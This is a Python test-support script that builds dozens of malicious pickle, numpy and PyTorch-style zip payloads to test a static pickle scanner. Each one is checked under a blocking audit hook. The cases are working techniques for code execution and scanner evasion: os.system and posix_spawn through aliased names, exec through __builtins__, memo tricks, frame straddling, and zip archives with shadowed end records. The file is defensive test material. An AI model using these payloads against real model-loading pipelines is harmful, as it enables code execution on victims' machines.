"""Attacks on the static scanner, each checked against CPython.

Every case is a pickle, a stream of pickles or a zip archive that a Python
program really loads into a gadget: a process, a file, the network, or code.
To prove it, each case is loaded in a forked child the way its victim loads
it, under an audit hook (sys.addaudithook) that records the sensitive events
and blocks them by raising, so nothing runs:

  loads   pickle.loads(data) (the C unpickler)
  stream  pickle.load(f) called until the end of the file, a new Unpickler
          each time (the usual loop; torch.load's legacy format does the same)
  file    pickle.load(io.BytesIO(data)): a file object that cannot peek, so
          an opcode that straddles the end of its frame is read from the
          bytes after the frame (torch.load reads data.pkl so)
  npy     numpy.load(allow_pickle=True) of an .npy file: the header read with
          ast.literal_eval and, for an object dtype, pickle.load of the rest
          (numpy's format.read_array logic; numpy is not installed)
  npz     numpy.load of an .npz: zipfile, then every .npy member as above
  torch   torch.load's reading of a zip: the entry named
          <first entry's folder>/data.pkl, looked up case-insensitively as
          PyTorch's zip reader (miniz, flags 0) does, every candidate loaded
          with a persistent_load that returns a stand-in storage; the archive
          is opened with zipfile, which finds the same end record as miniz
          for these archives (the last signature with a whole record after it)

Prints one JSON object {"cases": [{name, kind, expect, hex, events}]}: expect
is `dangerous` (the scanner must say so; events, what the audit hook saw, must
be non-empty: the attack is real) or `harmless` (a pickle that only looks like
an attack: CPython fails before calling anything, so events must be empty and
the scanner must not say `dangerous`).

Usage: python3 test/support/scan-attacks.py
"""

import ast
import io
import json
import os
import pickle
import struct
import sys
import tempfile
import zipfile
import zlib

CASES = []


def add(name, kind, data, expect="dangerous"):
    CASES.append({"name": name, "kind": kind, "expect": expect, "hex": bytes(data).hex()})


def u(text):
    """SHORT_BINUNICODE"""
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def sg(module, name):
    return u(module) + u(name) + b"\x93"


P4 = b"\x80\x04"
RUN = u("true #brine-probe") + b"\x85R"  # one argument, REDUCE
PROBE = os.path.join(tempfile.gettempdir(), "brine-probe-never-written")

# --- Several pickles in one file: a new Unpickler (and memo) for each -------------
# The first pickle fills memo slots 0 and 1 with harmless names; the second
# MEMOIZEs 'os' and 'system', which a fresh memo puts at 0 and 1, and reads
# them back with GET 0 and GET 1. A scanner that carries the memo over sees
# collections.OrderedDict.
first = P4 + u("collections") + b"\x94" + u("OrderedDict") + b"\x94\x86."
second = P4 + u("os") + b"\x94" + u("system") + b"\x94" + b"00" + b"h\x00h\x01\x93" + RUN + b"."
add("stream: MEMOIZE indices restart in each pickle", "stream", first + second)
# Text PUT/GET in protocol 0: the first pickle leaves a decoy in slot 1
decoy = b"Vbuiltins\np0\n0Vprint\np1\n0N."
payload = b"\x80\x04Vos\np0\n0Vsystem\np1\n0g0\ng1\n\x93Vtrue\n\x85R."
add("stream: slots of an earlier pickle read as decoys", "stream", decoy + payload)

# --- Text numbers as CPython 3.11's C unpickler reads them ------------------------
# PyLong_FromString stops at a NUL; INT is read by strtol in base 0.
add("PUT and GET indices ending at a NUL", "loads",
    P4 + b"Vos\np0\x00x\n0Vsystem\np1\x00x\n0g0\x00\ng1\x00\n\x93" + RUN + b".")
add("base-16 INT shifts the stack of a strict reader", "loads",
    P4 + u("os") + u("system") + b"I0x10\n0\x93" + RUN + b".")
add("INT with bytes after a NUL", "loads", P4 + u("os") + u("system") + b"I1\x00zz\n0\x93" + RUN + b".")
add("FLOAT with bytes after a NUL", "loads", P4 + u("os") + u("system") + b"F1.5\x00zz\n0\x93" + RUN + b".")
add("LONG in base 16", "loads", P4 + u("os") + u("system") + b"L0x10\n0\x93" + RUN + b".")

# --- Names: dotted paths through private aliases of os -----------------------------
# threading does `import os as _os`: threading._os.posix_spawn is os.posix_spawn
spawn_args = u("/bin/true") + u("true") + b"\x85" + b"}" + b"\x87R"
add("dotted name through threading._os", "loads", P4 + sg("threading", "_os.posix_spawn") + spawn_args + b".")
add("dotted name through random._os", "loads", P4 + sg("random", "_os.posix_spawnp") + spawn_args + b".")
add("getattr(threading._os, posix_spawn)", "loads",
    b"\x80\x02cbuiltins\ngetattr\ncthreading\n_os\nX\x0b\x00\x00\x00posix_spawn\x86R"
    + b"X\t\x00\x00\x00/bin/trueX\x04\x00\x00\x00true\x85}\x87R.")

# --- Modules whose import runs a program ------------------------------------------
add("import of unittest.__main__ runs test discovery", "loads", b"cunittest.__main__\nmain\n.")
add("import of antigravity opens a browser", "loads", b"cantigravity\ngeohash\n.")

# --- Standard-library calls that write files, fetch URLs or run code -----------------
add("_pyio.open for writing", "loads", b"c_pyio\nopen\n(V" + PROBE.encode() + b"\nVw\ntR.")
add("wave.open for writing", "loads", b"cwave\nopen\n(V" + PROBE.encode() + b"\nVwb\ntR.")
add("xml.sax.parse of a URL", "loads", b"cxml.sax\nparse\n(Vhttp://127.0.0.1:9/x\nNtR.")
add("unittest.main discovers and runs tests", "loads",
    b"cunittest\nmain\n(NV__main__\n(lVx\naVdiscover\natR.")
add("lib2to3 main rewrites files", "loads",
    b"clib2to3.main\nmain\n(Vlib2to3.fixes\n(lV-w\naVbrine-probe.py\natR.")

# --- Bound methods of standard-library objects ------------------------------------------
path = b"cpathlib\nPosixPath\n(V" + PROBE.encode() + b"\ntR"
add("getattr(PosixPath, write_text)", "loads", b"cbuiltins\ngetattr\n(" + path + b"Vwrite_text\ntR(Vx\ntR.")
add("getattr(PosixPath, unlink)", "loads", b"cbuiltins\ngetattr\n(" + path + b"Vunlink\ntR)R.")
add("getattr(PosixPath, touch)", "loads", b"cbuiltins\ngetattr\n(" + path + b"Vtouch\ntR)R.")


# --- A module's dunder attribute by plain name --------------------------------------------
# collections.__builtins__ is the builtins dict; dict.get (a dotted name, only review) takes exec
# out of it, and the result is called.
add("a module's __builtins__ by plain name, then dict.get", "loads",
    P4 + sg("builtins", "dict.get") + sg("collections", "__builtins__") + u("exec") + b"\x86R"
    + u("import os; os.system('true #brine-probe')") + b"\x85R.")

# --- An opcode that straddles the end of its frame -------------------------------------------
# pickle.loads reads the frame's last bytes and goes on straight (here: a string, then bytes that
# hold the payload as data); a file object without peek drops the frame's rest and reads the string
# from the bytes after the frame, then runs the payload.
payload = u("os") + u("system") + b"\x93" + RUN + b"."
straddle = (P4 + b"\x95" + struct.pack("<Q", 6) + b"\x8c\x10AAAA" + b"B" * 12 + b"C"
            + bytes([2 + len(payload)]) + b"cc" + payload + b".")
add("an opcode straddling its frame's end, read by a file object", "file", straddle)

# --- Names CPython cannot resolve: loading fails before any call --------------------------------
# Below protocol 4 a dotted name is one attribute (getattr(module, 'Trainer.run') fails); a
# <locals> step fails at any protocol. Nothing runs, whatever the name's parts say.
add("dotted name below protocol 4 (unresolvable)", "loads",
    b"\x80\x02cthreading\n_os.system\n(Vtrue #brine-probe\ntR.", "harmless")
add("a <locals> step (unresolvable)", "loads",
    P4 + sg("collections", "namedtuple.<locals>.system") + RUN + b".", "harmless")


# --- Zip archives as torch.load reads them ---------------------------------------------
def local(name, data, method=0):
    body = data if method == 0 else zlib.compress(data)[2:-4]
    header = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0, zlib.crc32(data), len(body), len(data),
                         len(name), 0)
    return header + name.encode() + body


def central(name, data, offset, method=0):
    body_len = len(data) if method == 0 else len(zlib.compress(data)[2:-4])
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0, zlib.crc32(data), body_len,
                       len(data), len(name), 0, 0, 0, 0, 0, offset) + name.encode()


def end(count, cd_size, cd_offset, comment_len):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count, count, cd_size, cd_offset, comment_len)


def archive(entries, tail=b""):
    """A stored archive of (name, data); returns (bytes, offsets)."""
    out = bytearray()
    offsets = []
    for name, data in entries:
        offsets.append(len(out))
        out += local(name, data)
    cd = b"".join(central(n, d, o) for (n, d), o in zip(entries, offsets))
    cd_offset = len(out)
    out += cd + end(len(entries), len(cd), cd_offset, len(tail)) + tail
    return out


class Storage:
    pass


class TorchStandIn(pickle.Pickler):
    def persistent_id(self, obj):
        if isinstance(obj, Storage):
            return ("storage", Storage, "0", "cpu", 4)
        return None


Storage.__module__ = "torch"
Storage.__qualname__ = Storage.__name__ = "FloatStorage"
sys.modules.setdefault("torch", type(sys)("torch"))
sys.modules["torch"].FloatStorage = Storage
buf = io.BytesIO()
TorchStandIn(buf, protocol=2).dump({"weight": Storage()})
BENIGN = buf.getvalue()
EVIL0 = b"cos\nsystem\n(Vtrue #brine-probe\ntR."  # protocol 0: no PROTO opcode at the start
REST = [("archive/byteorder", b"little"), ("archive/data/0", b"\x00" * 16), ("archive/version", b"3\n")]

add("zip: data.pkl spelled in capitals, protocol 0", "torch", archive([("archive/DATA.PKL", EVIL0)] + REST))
add("zip: a benign data.pkl and a DATA.PKL that miniz finds too", "torch",
    archive([("archive/data.pkl", BENIGN)] + REST + [("archive/Data.Pkl", EVIL0)]))

# Two end records: the last one (which miniz and zipfile use) has a comment
# length that runs past the file; the one before it covers the rest as its comment.
benign_entries = [("archive/data.pkl", BENIGN)] + REST
head = bytearray()
offsets = []
for name, data in benign_entries:
    offsets.append(len(head))
    head += local(name, data)
cd_b = b"".join(central(n, d, o) for (n, d), o in zip(benign_entries, offsets))
cd_b_offset = len(head)
evil_local_offset = cd_b_offset + len(cd_b) + 22
evil_local = local("archive/data.pkl", EVIL0)
cd_e = central("archive/data.pkl", EVIL0, evil_local_offset) + b"".join(
    central(n, d, o) for (n, d), o in zip(REST, offsets[1:]))
cd_e_offset = evil_local_offset + len(evil_local)
tail = evil_local + cd_e + end(len(REST) + 1, len(cd_e), cd_e_offset, 7)
shadow = head + cd_b + end(len(benign_entries), len(cd_b), cd_b_offset, len(tail)) + tail
add("zip: a second end record that miniz and zipfile take", "torch", shadow)

# data.pkl's local header placed after the central directory (inside the comment)
rest_part = bytearray()
rest_offsets = []
for name, data in REST:
    rest_offsets.append(len(rest_part))
    rest_part += local(name, data)
cd = b"".join(central(n, d, o) for (n, d), o in zip(REST, rest_offsets))
pkl_local = local("archive/data.pkl", EVIL0)
cd_offset = len(rest_part)
late_offset = cd_offset + len(cd) + len(central("archive/data.pkl", EVIL0, 0)) + 22
cd += central("archive/data.pkl", EVIL0, late_offset)
late = rest_part + cd + end(len(REST) + 1, len(cd), cd_offset, len(pkl_local)) + pkl_local
add("zip: data.pkl's local header after the central directory", "torch", late)


# --- numpy: numpy.load(allow_pickle=True) unpickles what follows an object array's header -------
def npy(header, body):
    text = header.encode("latin1")
    text += b" " * (-(10 + len(text) + 1) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(text)) + text + body


add("npy of objects, pickle in protocol 0", "npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", EVIL0))
add("npy whose object dtype is spelled with an escape", "npy",
    npy("{'descr': '|\\x4f', 'fortran_order': False, 'shape': (1,), }", EVIL0))
npz = archive([("arr_0.npy", npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", EVIL0))])
add("npz member of objects", "npz", npz)
# Bytes before the archive: zipfile moves every offset by them (miniz does not)
lead = local("lead.txt", b"lead")
add("npz behind a leading entry (zipfile's offset shift)", "npz", lead + npz)


# The end record counts one entry; the central directory holds two (zipfile reads entries until the
# directory's size is used up, miniz reads the count). The second member's local header sits after a
# gap, where no walk of local headers reaches it.
plain = npy("{'descr': '<f8', 'fortran_order': False, 'shape': (1,), }", b"\x00" * 8)
evil_npy = npy("{'descr': '|O', 'fortran_order': False, 'shape': (1,), }", EVIL0)
first = local("arr_0.npy", plain)
second_at = len(first) + 4
body = first + b"\x00" * 4 + local("arr_1.npy", evil_npy)
cd = central("arr_0.npy", plain, 0) + central("arr_1.npy", evil_npy, second_at)
add("npz: a member beyond the end record's count", "npz", body + cd + end(1, len(cd), len(body), 0))


# --- Proof: load each case as its victim does, under an audit hook ----------------------
SENSITIVE = ("os.system", "os.posix_spawn", "os.exec", "os.spawn", "os.fork", "subprocess.Popen", "webbrowser.open",
             "socket.connect", "socket.getaddrinfo", "urllib.Request", "os.remove", "os.rmdir", "os.rename",
             "shutil.rmtree", "os.truncate")


def hook(event, args):
    if event in SENSITIVE or (event == "open" and "brine-probe" in str(args[0])):
        EVENTS.append(f"{event} {str(args)[:80]}")
        raise PermissionError(f"blocked {event}")


class Persistent(pickle.Unpickler):
    def persistent_load(self, pid):
        return None


def load_npy(f):
    """numpy.lib.format.read_array's path to pickle (numpy is not installed: its logic, not its code)."""
    assert f.read(6) == b"\x93NUMPY"
    major = f.read(2)[0]
    size = struct.unpack("<H", f.read(2))[0] if major == 1 else struct.unpack("<I", f.read(4))[0]
    descr = str(ast.literal_eval(f.read(size).decode("latin1"))["descr"])
    if "O" in descr or "object" in descr:  # dtype.hasobject
        return pickle.load(f)
    return None


def victim(kind, data):
    if kind == "loads":
        pickle.loads(data)
    elif kind == "file":
        pickle.load(io.BytesIO(data))
    elif kind == "stream":
        f = io.BytesIO(data)
        while f.tell() < len(data):
            pickle.load(f)
    elif kind == "npy":
        load_npy(io.BytesIO(data))
    elif kind == "npz":
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            for name in z.namelist():
                if name.endswith(".npy"):
                    load_npy(io.BytesIO(z.read(name)))
    else:
        with zipfile.ZipFile(io.BytesIO(data)) as z:
            names = z.namelist()
            folder = names[0].split("/")[0]
            for info in z.infolist():
                if info.filename.lower() == f"{folder}/data.pkl".lower():
                    try:
                        Persistent(io.BytesIO(z.read(info))).load()
                    except PermissionError:
                        pass


EVENTS = []
for case in CASES:
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        os.close(read_end)
        code = 0
        try:
            # What the victim's working directory holds: a test module (unittest
            # discovery imports it) and a source file (lib2to3 reads it).
            os.chdir(tempfile.mkdtemp())
            with open("test_brine_probe.py", "w") as f:
                f.write("import os\nos.system('true #brine-probe')\n")
            with open("brine-probe.py", "w") as f:
                f.write("print 'x'\n")
            os.environ["BROWSER"] = "true"  # a desktop's browser
            sys.stdout = sys.stderr = open(os.devnull, "w")
            sys.argv = ["victim"]
            sys.addaudithook(hook)
            try:
                victim(case["kind"], bytes.fromhex(case["hex"]))
            except BaseException:  # noqa: BLE001 - the loader's failure after the blocked event
                pass
            os.write(write_end, json.dumps(EVENTS).encode())
        finally:
            os._exit(code)
    os.close(write_end)
    with os.fdopen(read_end, "rb") as r:
        out = r.read()
    os.waitpid(pid, 0)
    case["events"] = json.loads(out or b"[]")

sys.stdout.write(json.dumps({"cases": CASES}))
